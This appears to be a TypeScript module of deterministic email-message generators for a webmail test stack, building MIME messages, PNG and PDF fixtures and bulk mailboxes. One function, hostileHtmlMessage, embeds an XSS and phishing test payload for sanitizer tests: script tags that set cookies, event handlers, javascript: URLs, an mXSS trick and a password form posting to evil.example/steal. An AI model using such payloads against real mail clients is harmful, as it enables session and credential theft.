/**
 * Deterministic raw-message generators for Mailroom's dev/test mail stack.
 *
 * Pure functions: no Math.random, no Date.now, no I/O. Every generator returns a complete RFC 5322
 * message as a Buffer with CRLF line endings, ready for IMAP APPEND (or SMTP DATA). Used by
 * scripts/seed.ts and meant to be reused by tests that append the same kinds of message to their
 * own users.
 */
import { deflateSync } from 'node:zlib';

// ---------------------------------------------------------------------------------------------
// PRNG + dates

/** mulberry32: small, fast, seeded PRNG. */
export function createRng(seed: number) {
  let a = seed >>> 0;
  const next = (): number => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    /** integer in [min, max] */
    int: (min: number, max: number) => min + Math.floor(next() * (max - min + 1)),
    pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)],
    chance: (p: number) => next() < p,
  };
}
export type Rng = ReturnType<typeof createRng>;

/** All seeded dates count back from here. */
export const SEED_EPOCH = new Date('2026-11-01T09:00:00Z');

/** SEED_EPOCH minus the given minutes. */
export function minutesBefore(minutes: number, from: Date = SEED_EPOCH): Date {
  return new Date(from.getTime() - minutes * 60_000);
}

const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad2 = (n: number) => String(n).padStart(2, '0');

/** RFC 5322 date in UTC, e.g. "Sun, 01 Nov 2026 09:00:00 +0000". */
export function rfc2822Date(d: Date): string {
  return `${DAYS[d.getUTCDay()]}, ${pad2(d.getUTCDate())} ${MONTHS[d.getUTCMonth()]} ${d.getUTCFullYear()} ${pad2(
    d.getUTCHours(),
  )}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())} +0000`;
}

// ---------------------------------------------------------------------------------------------
// Encoding helpers

const CRLF = '\r\n';
const isAscii = (s: string) => /^[\x00-\x7f]*$/.test(s);

/** Normalises any line endings to CRLF. */
export function toCrlf(s: string): string {
  return s.replace(/\r?\n/g, CRLF);
}

/** RFC 2047 B-encoded words (split on character boundaries, each word <= 75 chars). */
export function encodeWords(text: string): string {
  if (isAscii(text)) return text;
  const words: string[] = [];
  let chunk = '';
  for (const ch of text) {
    const candidate = chunk + ch;
    // 45 bytes of UTF-8 -> 60 chars base64 + 12 chars of "=?UTF-8?B??=" = 72
    if (Buffer.byteLength(candidate, 'utf8') > 45) {
      words.push(chunk);
      chunk = ch;
    } else {
      chunk = candidate;
    }
  }
  if (chunk) words.push(chunk);
  return words.map((w) => `=?UTF-8?B?${Buffer.from(w, 'utf8').toString('base64')}?=`).join(`${CRLF} `);
}

/** RFC 2047 Q-encoded single word (for variety: some mailers use Q instead of B). */
export function encodeWordQ(text: string): string {
  if (isAscii(text)) return text;
  const bytes = Buffer.from(text, 'utf8');
  let out = '';
  for (const b of bytes) {
    if (b === 0x20) out += '_';
    else if ((b >= 0x30 && b <= 0x39) || (b >= 0x41 && b <= 0x5a) || (b >= 0x61 && b <= 0x7a)) out += String.fromCharCode(b);
    else out += '=' + b.toString(16).toUpperCase().padStart(2, '0');
  }
  return `=?UTF-8?Q?${out}?=`;
}

/** Quoted-printable (RFC 2045) of UTF-8 text; line breaks become CRLF, soft breaks at 76. */
export function encodeQuotedPrintable(text: string): string {
  const lines = text.split(/\r?\n/);
  return lines
    .map((line) => {
      const bytes = Buffer.from(line, 'utf8');
      let out = '';
      let cur = '';
      for (let i = 0; i < bytes.length; i++) {
        const b = bytes[i];
        const last = i === bytes.length - 1;
        let enc: string;
        if ((b === 0x20 || b === 0x09) && last) enc = '=' + b.toString(16).toUpperCase().padStart(2, '0');
        else if ((b >= 33 && b <= 126 && b !== 61) || b === 0x20 || b === 0x09) enc = String.fromCharCode(b);
        else enc = '=' + b.toString(16).toUpperCase().padStart(2, '0');
        if (cur.length + enc.length > 75) {
          out += cur + '=' + CRLF;
          cur = '';
        }
        cur += enc;
      }
      return out + cur;
    })
    .join(CRLF);
}

/** Base64 wrapped at 76 columns. */
export function base64Lines(data: Buffer): string {
  return (data.toString('base64').match(/.{1,76}/g) ?? []).join(CRLF);
}

export interface Address {
  name?: string;
  address: string;
}
export type AddressInput = string | Address;

export function formatAddress(a: AddressInput): string {
  if (typeof a === 'string') return a;
  if (!a.name) return a.address;
  if (!isAscii(a.name)) return `${encodeWords(a.name)} <${a.address}>`;
  const needsQuotes = /[()<>\[\]:;@\\,."]/.test(a.name);
  return `${needsQuotes ? `"${a.name.replace(/(["\\])/g, '\\$1')}"` : a.name} <${a.address}>`;
}
const formatAddresses = (list: AddressInput | AddressInput[]) =>
  (Array.isArray(list) ? list : [list]).map(formatAddress).join(`,${CRLF} `);

/** Deterministic Message-ID from a stable key. */
export function messageId(key: string, domain = 'example.test'): string {
  let h1 = 0x811c9dc5;
  let h2 = 0x01000193;
  for (let i = 0; i < key.length; i++) {
    const c = key.charCodeAt(i);
    h1 = Math.imul(h1 ^ c, 16777619) >>> 0;
    h2 = Math.imul(h2 ^ c, 2246822507) >>> 0;
  }
  const slug = key.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '').slice(0, 24) || 'msg';
  return `<${slug}.${h1.toString(36)}${h2.toString(36)}@${domain}>`;
}

// ---------------------------------------------------------------------------------------------
// Binary fixtures (real, tiny files)

let crcTable: Uint32Array | undefined;
function crc32(buf: Buffer): number {
  if (!crcTable) {
    crcTable = new Uint32Array(256);
    for (let n = 0; n < 256; n++) {
      let c = n;
      for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
      crcTable[n] = c >>> 0;
    }
  }
  let c = 0xffffffff;
  for (const b of buf) c = crcTable[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}

/**
 * A real PNG (RGB, 8-bit): a diagonal two-colour gradient with a border. Valid in any viewer.
 * Colours are [r, g, b] triples.
 */
export function tinyPng(
  width = 16,
  height = 16,
  from: [number, number, number] = [37, 99, 235],
  to: [number, number, number] = [16, 185, 129],
): Buffer {
  const raw = Buffer.alloc((width * 3 + 1) * height);
  for (let y = 0; y < height; y++) {
    const row = y * (width * 3 + 1);
    raw[row] = 0; // filter: none
    for (let x = 0; x < width; x++) {
      const t = (x + y) / Math.max(1, width + height - 2);
      const border = x === 0 || y === 0 || x === width - 1 || y === height - 1;
      for (let c = 0; c < 3; c++) {
        raw[row + 1 + x * 3 + c] = border ? 255 : Math.round(from[c] + (to[c] - from[c]) * t);
      }
    }
  }
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // colour type RGB
  ihdr[10] = 0;
  ihdr[11] = 0;
  ihdr[12] = 0;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A minimal but valid one-page PDF showing the given (ASCII) lines. */
export function tinyPdf(lines: string[] = ['Mailroom test document']): Buffer {
  const esc = (s: string) => s.replace(/[^\x20-\x7e]/g, '?').replace(/([()\\])/g, '\\$1');
  const content = ['BT', '/F1 14 Tf', '72 740 Td', '18 TL', ...lines.map((l) => `(${esc(l)}) '`), 'ET'].join('\n');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

// ---------------------------------------------------------------------------------------------
// Message builders

export interface Attachment {
  filename: string;
  contentType: string;
  content: Buffer | string;
  /** Set for inline parts referenced from HTML as cid:<contentId> */
  contentId?: string;
  inline?: boolean;
}

export interface MessageOptions {
  from: AddressInput;
  to: AddressInput | AddressInput[];
  cc?: AddressInput | AddressInput[];
  replyTo?: AddressInput;
  subject: string;
  date: Date;
  /** Stable key for a deterministic Message-ID (default: subject + date). Or pass messageId. */
  key?: string;
  messageId?: string;
  inReplyTo?: string;
  references?: string[];
  text?: string;
  html?: string;
  attachments?: Attachment[];
  /** Extra headers, added verbatim (values must already be encoded). */
  headers?: Record<string, string>;
  /** Body transfer encoding for text parts (default: 7bit for ASCII, quoted-printable otherwise). */
  textEncoding?: 'quoted-printable' | 'base64' | '8bit';
  /** Encode non-ASCII subjects with Q instead of B encoded-words. */
  qEncodeSubject?: boolean;
}

/** Boundaries derived from the message key: deterministic and unique per message. */
function boundaryFor(key: string, n: number): string {
  const id = messageId(key + '#' + n).replace(/[<>@.]/g, '');
  return `----=_mailroom_${n}_${id.slice(-16)}`;
}

function headerBlock(o: MessageOptions, contentHeaders: string[]): string {
  const h: string[] = [];
  h.push(`Date: ${rfc2822Date(o.date)}`);
  h.push(`From: ${formatAddress(o.from)}`);
  h.push(`To: ${formatAddresses(o.to)}`);
  if (o.cc) h.push(`Cc: ${formatAddresses(o.cc)}`);
  if (o.replyTo) h.push(`Reply-To: ${formatAddress(o.replyTo)}`);
  h.push(`Subject: ${o.qEncodeSubject ? encodeWordQ(o.subject) : encodeWords(o.subject)}`);
  h.push(`Message-ID: ${o.messageId ?? messageId(o.key ?? `${o.subject}|${o.date.toISOString()}`)}`);
  if (o.inReplyTo) h.push(`In-Reply-To: ${o.inReplyTo}`);
  if (o.references?.length) h.push(`References: ${o.references.join(`${CRLF} `)}`);
  for (const [k, v] of Object.entries(o.headers ?? {})) h.push(`${k}: ${v}`);
  h.push('MIME-Version: 1.0');
  h.push(...contentHeaders);
  return h.join(CRLF) + CRLF + CRLF;
}

function textPart(body: string, subtype: 'plain' | 'html', encoding?: MessageOptions['textEncoding']): { headers: string[]; body: string } {
  const ascii = isAscii(body);
  const enc = encoding ?? (ascii ? '7bit' : 'quoted-printable');
  const headers = [`Content-Type: text/${subtype}; charset=utf-8`, `Content-Transfer-Encoding: ${enc}`];
  let encoded: string;
  if (enc === 'quoted-printable') encoded = encodeQuotedPrintable(body);
  else if (enc === 'base64') encoded = base64Lines(Buffer.from(body, 'utf8'));
  else encoded = toCrlf(body);
  return { headers, body: encoded };
}

function attachmentPart(a: Attachment): { headers: string[]; body: string } {
  const content = typeof a.content === 'string' ? Buffer.from(a.content, 'utf8') : a.content;
  const name = encodeWords(a.filename);
  const headers = [
    `Content-Type: ${a.contentType}; name="${name}"`,
    'Content-Transfer-Encoding: base64',
    `Content-Disposition: ${a.inline ? 'inline' : 'attachment'}; filename="${name}"`,
  ];
  if (a.contentId) headers.push(`Content-ID: <${a.contentId}>`);
  return { headers, body: base64Lines(content) };
}

type Part = { headers: string[]; body: string };
function multipart(subtype: string, boundary: string, parts: Part[], extra = ''): Part {
  const body =
    'This is a multi-part message in MIME format.' +
    CRLF +
    parts.map((p) => `${CRLF}--${boundary}${CRLF}${p.headers.join(CRLF)}${CRLF}${CRLF}${p.body}`).join('') +
    `${CRLF}--${boundary}--${CRLF}`;
  return { headers: [`Content-Type: multipart/${subtype}; boundary="${boundary}"${extra}`], body };
}

function build(o: MessageOptions, part: Part): Buffer {
  return Buffer.from(headerBlock(o, part.headers) + part.body + (part.body.endsWith(CRLF) ? '' : CRLF), 'utf8');
}

/** Crude HTML -> text for the text/plain alternative. */
export function htmlToText(html: string): string {
  return html
    .replace(/<style[\s\S]*?<\/style>/gi, '')
    .replace(/<(br|\/p|\/tr|\/h[1-6]|\/li|\/div)\b[^>]*>/gi, '\n')
    .replace(/<[^>]+>/g, '')
    .replace(/&nbsp;/g, ' ')
    .replace(/&amp;/g, '&')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/[ \t]+\n/g, '\n')
    .replace(/\n{3,}/g, '\n\n')
    .trim();
}

/** text/plain message. */
export function plainMessage(o: MessageOptions & { text: string }): Buffer {
  return build(o, textPart(o.text, 'plain', o.textEncoding));
}

/** multipart/alternative (text + HTML). */
export function htmlMessage(o: MessageOptions & { html: string }): Buffer {
  const key = o.key ?? o.subject;
  const text = o.text ?? htmlToText(o.html);
  return build(o, multipart('alternative', boundaryFor(key, 1), [textPart(text, 'plain', o.textEncoding), textPart(o.html, 'html', o.textEncoding)]));
}

/** multipart/mixed: text (or text+HTML alternative) + attachments. */
export function attachmentMessage(o: MessageOptions & { attachments: Attachment[] }): Buffer {
  const key = o.key ?? o.subject;
  const bodyPart = o.html
    ? multipart('alternative', boundaryFor(key, 2), [textPart(o.text ?? htmlToText(o.html), 'plain'), textPart(o.html, 'html')])
    : textPart(o.text ?? '', 'plain', o.textEncoding);
  return build(o, multipart('mixed', boundaryFor(key, 1), [bodyPart, ...o.attachments.map(attachmentPart)]));
}

/**
 * HTML with an inline image: multipart/related (alternative(text, html), image) where the HTML
 * shows <img src="cid:...">. Defaults to a real tiny PNG.
 */
export function inlineImageMessage(o: MessageOptions & { html?: string; image?: Buffer; contentId?: string }): Buffer {
  const key = o.key ?? o.subject;
  const cid = o.contentId ?? `logo.${messageId(key).slice(1, 12)}@example.test`;
  const html =
    o.html ??
    `<html><body style="font-family:Arial,sans-serif">
<p>Here is the new logo, inline:</p>
<p><img src="cid:${cid}" alt="Mailroom logo" width="64" height="64" style="border:1px solid #ccc"></p>
<p>Let me know what you think!</p>
</body></html>`;
  const related = multipart(
    'related',
    boundaryFor(key, 1),
    [
      multipart('alternative', boundaryFor(key, 2), [textPart(o.text ?? htmlToText(html), 'plain'), textPart(html, 'html')]),
      attachmentPart({ filename: 'logo.png', contentType: 'image/png', content: o.image ?? tinyPng(64, 64), contentId: cid, inline: true }),
    ],
    '; type="multipart/alternative"',
  );
  return build(o, related);
}

const DEFAULT_FROM: Address = { name: 'Mallory Sender', address: 'mallory@evil.example' };
const DEFAULT_TO: Address = { name: 'Alice Example', address: 'alice@example.test' };

/** HTML that loads a remote tracking image (for "block remote images" behaviour). */
export function remoteImageMessage(o: Partial<MessageOptions> = {}): Buffer {
  const html = `<html><body>
<h2 style="color:#1d4ed8">Your October statement is ready</h2>
<p>Hi Alice, your monthly statement is available in your account.</p>
<p><img src="https://tracker.example.com/pixel.png?u=alice&amp;c=oct" width="1" height="1" alt=""></p>
<p><img src="https://cdn.example.com/banner.jpg" alt="Banner" width="600" height="120"></p>
<p>— The Example Bank team</p>
</body></html>`;
  return htmlMessage({
    from: { name: 'Example Bank', address: 'statements@bank.example.com' },
    to: DEFAULT_TO,
    subject: 'Your October statement is ready',
    date: SEED_EPOCH,
    ...o,
    html,
  });
}

/** HTML full of things a webmail sanitizer must neutralise (scripts, handlers, javascript: URLs...). */
export function hostileHtmlMessage(o: Partial<MessageOptions> = {}): Buffer {
  const html = `<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/phish">
<base href="https://evil.example/">
<style>body { background: url("javascript:alert('css')"); } .x { behavior: url(x.htc); width: expression(alert(1)); }</style>
<script>window.parent.postMessage('pwned', '*'); document.cookie = 'stolen=1';</script>
<link rel="stylesheet" href="https://evil.example/track.css">
</head>
<body onload="alert('onload')">
<h1>You won a prize!</h1>
<p><a href="javascript:alert('link')">Claim now</a> or <a href="https://evil.example/claim" target="_self">here</a></p>
<img src="x" onerror="alert('img-onerror')">
<img src="https://tracker.example.com/pixel.png?u=hostile" width="1" height="1">
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<iframe src="https://evil.example/frame" width="300" height="200"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red" onclick="alert('overlay')">overlay</div>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>
</body></html>`;
  return htmlMessage({
    from: DEFAULT_FROM,
    to: DEFAULT_TO,
    subject: 'You won a prize! (hostile HTML test)',
    date: SEED_EPOCH,
    ...o,
    html,
    text: 'You won a prize! (this message contains hostile HTML for sanitizer tests)',
  });
}

/**
 * A deliberately broken message: no Date/Message-ID/From/To headers, a header line without a
 * colon, a multipart body whose declared boundary never terminates properly, a part with invalid
 * base64, an unknown charset and a truncated nested multipart.
 */
export function malformedMessage(o: { subject?: string } = {}): Buffer {
  const raw = [
    `Subject: ${o.subject ?? 'Malformed message (broken MIME)'}`,
    'MIME-Version: 1.0',
    'X-Broken-Header-Without-Colon',
    'Content-Type: multipart/mixed; boundary="declared-boundary"',
    '',
    'Preamble text.',
    '--declared-boundary',
    'Content-Type: text/plain; charset=x-unknown-charset',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    'Broken soft break =',
    'and an invalid escape =ZZ here, and a lone =',
    '--declared-boundary',
    'Content-Type: application/octet-stream; name="broken.bin"',
    'Content-Transfer-Encoding: base64',
    'Content-Disposition: attachment; filename="broken.bin"',
    '',
    'This is *not* valid base64!!! @@@ ===',
    'SGVsbG8gd29ybGQ',
    '--declared-boundary',
    'Content-Type: multipart/alternative; boundary="never-closed"',
    '',
    '--never-closed',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<p>Unclosed <b>html <i>in a multipart that never ends',
    '--wrong-boundary--',
    '',
  ].join(CRLF);
  return Buffer.from(raw, 'utf8');
}

// ---------------------------------------------------------------------------------------------
// Bulk generation

const FIRST = ['Olivia', 'Liam', 'Emma', 'Noah', 'Ava', 'Mateo', 'Sofia', 'Lucas', 'Mia', 'Ethan', 'Chloé', 'Jörg', 'Yuki', 'Priya', 'Omar', 'Zoë', 'Wei', 'Ana', 'Kwame', 'Ingrid'];
const LAST = ['Smith', 'García', 'Müller', 'Tanaka', 'Okafor', 'Rossi', 'Kowalski', 'Nguyen', 'Silva', 'Haddad', 'Larsen', 'Dubois', 'Patel', 'Kim', 'Novak'];
const ORGS = ['acme.example', 'globex.example', 'initech.example', 'umbrella.example', 'hooli.example', 'stark.example', 'wayne.example', 'example.org'];
const TOPICS = [
  'Quarterly report', 'Build failed on main', 'Invoice', 'Meeting notes', 'Re: lunch?', 'Weekly digest', 'Password reset',
  'Your order has shipped', 'Design review', 'Security advisory', 'Welcome aboard', 'Deploy window', 'Budget 2027',
  'Re: Re: contract draft', 'Travel itinerary', 'Reminder: standup', 'Customer feedback', 'Release notes',
  'Fwd: conference tickets', 'Server maintenance',
];
const WORDS = 'the of and to in is it that for on with as was at by this we you are be from have not or an they which one all were her would there their will when who make can more if no out so said what up its about into than them only other new some could time these two may then do first any my now such like our over man me even most made after also did many before must through back years where much your way well down should because each just those people how too little state good very make world still own see men work long get here between both life being under never day same another know while last might us great old year off come since against go came right used take three'.split(' ');

export function loremWords(rng: Rng, n: number): string {
  const out: string[] = [];
  for (let i = 0; i < n; i++) out.push(rng.pick(WORDS));
  const s = out.join(' ');
  return s.charAt(0).toUpperCase() + s.slice(1) + '.';
}

export function randomPerson(rng: Rng): Address {
  const first = rng.pick(FIRST);
  const last = rng.pick(LAST);
  const local = `${first}.${last}`
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .toLowerCase()
    .replace(/[^a-z.]/g, '');
  return { name: `${first} ${last}`, address: `${local}@${rng.pick(ORGS)}` };
}

/**
 * The i-th (0-based) message of a generated bulk mailbox: varied senders, subjects and sizes,
 * small bodies. Deterministic in (seed, i).
 */
export function bulkMessage(i: number, to: AddressInput, date: Date, seed = 424242): Buffer {
  const rng = createRng(seed ^ Math.imul(i + 1, 2654435761));
  const from = randomPerson(rng);
  const subject = `${rng.pick(TOPICS)} #${i + 1}`;
  const paragraphs = rng.int(1, rng.chance(0.05) ? 30 : 4);
  const text = Array.from({ length: paragraphs }, () => loremWords(rng, rng.int(8, 60))).join('\n\n') + `\n\n-- \n${from.name}\n`;
  const key = `bulk-${seed}-${i}`;
  if (rng.chance(0.15)) {
    const html = `<html><body><p style="font-family:Georgia,serif">${text.replace(/\n\n/g, '</p><p>')}</p></body></html>`;
    return htmlMessage({ from, to, subject, date, key, html, text });
  }
  return plainMessage({ from, to, subject, date, key, text });
}
